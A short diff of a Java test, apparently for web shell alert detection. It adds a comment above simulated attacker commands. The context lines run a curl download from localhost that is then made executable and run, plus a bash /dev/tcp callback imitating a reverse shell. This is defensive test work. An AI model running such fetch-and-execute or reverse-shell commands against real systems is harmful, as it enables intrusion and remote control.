@@ -61,6 +61,7 @@ class WebShellAlertsTest {
             web.shell("uname -a");
             web.shell("curl -so " + dropped + " http://127.0.0.1:" + web.port + "/x && chmod +x " + dropped
                     + " && " + dropped);
+            // '; true': the callback must come from a bash child of the web shell's sh, the shape the assertions name.
             web.shell("bash -c 'exec 3<>/dev/tcp/127.0.0.1/" + CALLBACK_PORT + "'; true");
 
             String payloadName = Path.of(dropped).getFileName().toString();
